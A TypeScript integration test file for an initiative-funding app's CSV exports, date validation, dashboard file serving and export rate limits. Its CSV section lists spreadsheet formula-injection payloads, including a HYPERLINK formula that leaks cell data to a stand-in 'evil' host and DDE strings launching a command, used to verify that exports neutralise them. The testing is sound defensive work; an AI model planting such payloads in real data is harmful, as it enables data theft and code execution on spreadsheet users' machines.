import type { TeamEntity } from '../src/modules/team/team.entity.js';
import { Factory, unique, type Person } from './support/factories.js';
import { Ideas } from './support/ideas.js';
import { expectOk, Market } from './support/market.js';
import { cellsAsSpreadsheetReads, csvRows } from './support/csv.js';
import { codes, startTestApp, type TestApp } from './support/test-app.js';

/** A cell a spreadsheet would evaluate: it starts like a formula and is not a plain number. */
const evaluated = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

/** How a text cell must read: with a leading apostrophe when it starts like a formula. */
const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

const PAGE = 100;

describe('Exports and pages', () => {
  let sut: TestApp;
  let factory: Factory;
  let ideas: Ideas;
  let market: Market;

  beforeAll(async () => {
    sut = await startTestApp();
    factory = new Factory(sut);
    ideas = new Ideas(sut);
    market = new Market(sut, factory);
  });
  afterAll(() => sut.close());

  const get = (path: string, who?: Person, base = sut.url) =>
    fetch(`${base}${path}`, {
      headers: who ? { authorization: `Bearer ${who.token}` } : {},
    });

  /** An initiative with this title (from its idea), funded and approved by the sponsor's lead. */
  async function initiative(
    title: string,
    sponsor: TeamEntity,
    lead: Person,
    owner?: Person,
  ): Promise<{ id: string; owner: Person }> {
    const proposer = owner ?? (await factory.person());
    const ideaId = await ideas.submitted(proposer, sponsor, 10, title);
    expectOk(await ideas.pledge(lead, ideaId, sponsor.id, 10));
    const approved = await ideas.approve(lead, ideaId);
    expectOk(approved);
    return { id: approved.data!.approveIdea.initiative.id, owner: proposer };
  }

  describe('CSV cells', () => {
    const HOSTILE = [
      '=HYPERLINK("http://evil/?"&B2,"x")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      // Harmless where ',' separates cells; where ';' does, unquoted, they split into formulas.
      "X;=cmd|' /C calc'!A0;",
      "Calls;@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    let sponsor: TeamEntity;
    let reader: Person;

    beforeAll(async () => {
      // Team names come from admins, idea (so initiative) titles from anyone, metric names
      // from initiative owners.
      sponsor = await factory.team({ name: `=1+1;@SUM(1) ${unique('Team')}`, credits: 10_000 });
      const lead = await factory.person({ team: sponsor, leads: [sponsor] });
      reader = await factory.person({ team: sponsor });
      for (const title of HOSTILE) {
        const { id, owner } = await initiative(title, sponsor, lead);
        expectOk(
          await sut.gql(
            `mutation($id: ID!, $name: String!) { defineOutcomeMetric(input: { initiativeId: $id, name: $name, baseline: 0, target: 10, direction: HIGHER_IS_BETTER }) { metric { id } } }`,
            { id, name: title },
            owner.token,
          ),
        );
      }
    });

    it('neutralises formulas in every text cell of an export', async () => {
      const outcomes = await get(
        `/export/initiative-outcomes.csv?sponsorTeamId=${sponsor.id}`,
        reader,
      );
      expect(outcomes.status).toBe(200);
      const outcomeRows = csvRows(await outcomes.text());
      expect(outcomeRows).toHaveLength(1 + HOSTILE.length);
      const pnl = await get('/export/team-pnl.csv', reader);
      expect(pnl.status).toBe(200);
      const pnlRows = csvRows(await pnl.text());
      expect(pnlRows).toHaveLength(2);

      for (const cell of [...outcomeRows, ...pnlRows].flat()) expect(evaluated(cell)).toBe(false);
      // The way spreadsheet tools expect it: a leading apostrophe, the text otherwise intact.
      const titles = outcomeRows.slice(1).map((row) => row[0]);
      expect(titles.sort()).toEqual(HOSTILE.map(neutralised).sort());
      expect(outcomeRows[1][3]).toBe(`'${sponsor.name}`);
      expect(pnlRows[1][0]).toBe(`'${sponsor.name}`);
    });

    it('keeps every text cell whole where a spreadsheet separates cells with semicolons', async () => {
      for (const path of [
        `/export/initiative-outcomes.csv?sponsorTeamId=${sponsor.id}`,
        '/export/team-pnl.csv',
      ]) {
        const lines = (await (await get(path, reader)).text()).split('\n').filter(Boolean);
        const cells = lines.flatMap((line) => cellsAsSpreadsheetReads(line, ';'));
        expect(cells.filter(evaluated)).toEqual([]);
      }
    });

    it('leaves numeric cells as numbers', async () => {
      const pnl = csvRows(await (await get('/export/team-pnl.csv', reader)).text());
      const [header, row] = pnl;
      const net = row[header.indexOf('net')];
      // 10 000 allocated, 10 pledged to each hostile idea: numbers, unquoted, no apostrophe.
      const pledged = 10 * HOSTILE.length;
      expect(net).toBe(String(10_000 - pledged));
      const raw = await (await get('/export/team-pnl.csv', reader)).text();
      expect(raw).toContain(`,10000,0,0,${pledged},0,${10_000 - pledged},${10_000 - pledged}`);
    });
  });

  describe('dates', () => {
    let reader: Person;
    beforeAll(async () => {
      reader = await factory.person();
    });

    it.each([
      ['/export/team-pnl.csv?from=2026-13-45', 'from'],
      ['/export/team-pnl.csv?from=2026-02-31', 'from'],
      ['/export/team-pnl.csv?to=2025-02-29', 'to'],
      ['/export/team-pnl.csv?from=0000-01-01', 'from'],
      ['/export/team-pnl.csv?to=9999-12-31', 'to'],
      ['/export/initiative-outcomes.csv?from=2026-13-45', 'from'],
      ['/export/initiative-outcomes.csv?to=2026-02-31', 'to'],
    ])('refuses the impossible date in %s with a 400 naming the parameter', async (path, field) => {
      const response = await get(path, reader);
      expect(response.status).toBe(400);
      expect(response.headers.get('content-type')).toMatch(/^application\/json/);
      expect(response.headers.get('content-disposition')).toBeNull();
      expect(await response.json()).toEqual({
        error: { code: 'BAD_USER_INPUT', message: expect.stringContaining(field), field },
      });
    });

    it('accepts a leap day', async () => {
      const response = await get('/export/team-pnl.csv?from=2024-02-29&to=2024-02-29', reader);
      expect(response.status).toBe(200);
    });

    const GRAPHQL_CASES: [string, string, Record<string, unknown>, string][] = [
      [
        'ideaFunnel',
        `query($f: IdeaFunnelFilter) { ideaFunnel(filter: $f) { rejected } }`,
        { f: { proposedIn: { from: '2026-02-31' } } },
        'filter.proposedIn.from',
      ],
      [
        'ideaFunnel, inline',
        `{ ideaFunnel(filter: { proposedIn: { to: "2026-13-45" } }) { rejected } }`,
        {},
        'filter.proposedIn.to',
      ],
      [
        'ideaFunnel, year 0',
        `{ ideaFunnel(filter: { proposedIn: { from: "0000-01-01" } }) { rejected } }`,
        {},
        'filter.proposedIn.from',
      ],
      [
        'teamPnl, year 0',
        `{ teamPnl(period: { from: "0000-01-03" }) { totals { net } } }`,
        {},
        'period.from',
      ],
      [
        'teamPnl, a week ending in year 10000',
        `{ teamPnl(period: { to: "9999-12-31" }) { period { to } } }`,
        {},
        'period.to',
      ],
      [
        'initiativeOutcomes, inline',
        `{ initiativeOutcomes(filter: { startedIn: { from: "2026-02-30" } }) { totals { funded } } }`,
        {},
        'filter.startedIn.from',
      ],
      [
        'initiativeOutcomes, year 0',
        `{ initiativeOutcomes(filter: { startedIn: { to: "0000-12-31" } }) { totals { funded } } }`,
        {},
        'filter.startedIn.to',
      ],
      [
        'marketStats, year 0',
        `{ marketStats(filter: { period: { from: "0000-06-01" } }) { asOf } }`,
        {},
        'filter.period.from',
      ],
    ];

    it.each(GRAPHQL_CASES)(
      'refuses an impossible date over GraphQL (%s) as BAD_USER_INPUT naming the field',
      async (_name, query, variables, field) => {
        const result = await sut.gql(query, variables, reader.token);
        expect(result.errors).toEqual([
          expect.objectContaining({ extensions: { code: 'BAD_USER_INPUT', field } }),
        ]);
      },
    );

    it('refuses an impossible day in a team ledger period, a time log and a milestone', async () => {
      const team = await factory.team();
      const member = await factory.person({ team });
      const ledger = await sut.gql(
        `query($id: ID!) { teamLedger(teamId: $id, period: { from: "0000-01-01" }) { balance pnl { net } } }`,
        { id: team.id },
        member.token,
      );
      expect(ledger.errors).toEqual([
        expect.objectContaining({ extensions: { code: 'BAD_USER_INPUT', field: 'period.from' } }),
      ]);
      const lead = await factory.person({ team, leads: [team] });
      await factory.allocate(team.id, 100);
      const { id, owner } = await initiative('Dated things', team, lead);
      const milestone = await sut.gql(
        `mutation($id: ID!) { addMilestone(input: { initiativeId: $id, title: "Never", dueDate: "0000-01-01" }) { milestone { id } } }`,
        { id },
        owner.token,
      );
      expect(milestone.errors).toEqual([
        expect.objectContaining({ extensions: { code: 'BAD_USER_INPUT', field: 'input.dueDate' } }),
      ]);
      const worker = await factory.person();
      const engagementId = await market.engage(
        lead,
        await market.bid(worker, await market.postNeed(lead, team, { ratePerHour: 1 }), 1, 1),
      );
      const logged = await sut.gql(
        `mutation($id: ID!) { logTime(input: { engagementId: $id, hours: 1, date: "0000-01-01" }) { timeLog { id } } }`,
        { id: engagementId },
        worker.token,
      );
      expect(logged.errors).toEqual([
        expect.objectContaining({ extensions: { code: 'BAD_USER_INPUT', field: 'input.date' } }),
      ]);
    });
  });

  describe('the dashboard page', () => {
    it.each([
      'constructor',
      '__proto__',
      'toString',
      'hasOwnProperty',
      'valueOf',
      'index.html.bak',
    ])('serves only its own files: /dashboard/%s is 404', async (name) => {
      const response = await get(`/dashboard/${name}`);
      expect(response.status).toBe(404);
      expect(await response.json()).toEqual({
        error: { code: 'NOT_FOUND', message: expect.any(String) },
      });
    });

    it.each(['app.js', 'style.css', 'chart.js'])('still serves /dashboard/%s', async (name) => {
      const response = await get(`/dashboard/${name}`);
      expect(response.status).toBe(200);
    });
  });

  describe('export size and rate limits', () => {
    let sponsor: TeamEntity;
    let limited: TestApp;

    beforeAll(async () => {
      sponsor = await factory.team({ credits: 10_000 });
      const lead = await factory.person({ team: sponsor, leads: [sponsor] });
      const owner = await factory.person();
      // One more than a page: the export reads two pages.
      for (let i = 0; i < PAGE + 1; i++) await initiative(`Initiative ${i}`, sponsor, lead, owner);
      // Two calls a minute per employee on the same database.
      limited = await startTestApp({ RATE_LIMIT_PER_MINUTE: '2' });
    }, 180_000);
    afterAll(() => limited?.close());

    const ME = '{ me { id } }';

    it("counts every page an export reads against the employee's rate limit", async () => {
      const reader = await factory.person();
      const csv = await get(
        `/export/initiative-outcomes.csv?sponsorTeamId=${sponsor.id}`,
        reader,
        limited.url,
      );
      expect(csv.status).toBe(200);
      expect(csvRows(await csv.text())).toHaveLength(1 + PAGE + 1);
      // The request and its second page used both calls of the minute.
      expect(codes(await limited.gql(ME, {}, reader.token))).toEqual(['RATE_LIMITED']);
    });

    it('counts an export of one page once', async () => {
      const reader = await factory.person();
      const csv = await get(
        `/export/initiative-outcomes.csv?sponsorTeamId=${sponsor.id}&status=CANCELLED`,
        reader,
        limited.url,
      );
      expect(csv.status).toBe(200);
      expect(codes(await limited.gql(ME, {}, reader.token))).toEqual([]);
    });

    it('refuses the page it cannot pay for, with a 429 and no partial file', async () => {
      const reader = await factory.person();
      expect(codes(await limited.gql(ME, {}, reader.token))).toEqual([]);
      const csv = await get(
        `/export/initiative-outcomes.csv?sponsorTeamId=${sponsor.id}`,
        reader,
        limited.url,
      );
      expect(csv.status).toBe(429);
      expect(await csv.json()).toMatchObject({ error: { code: 'RATE_LIMITED' } });
    });
  });
});
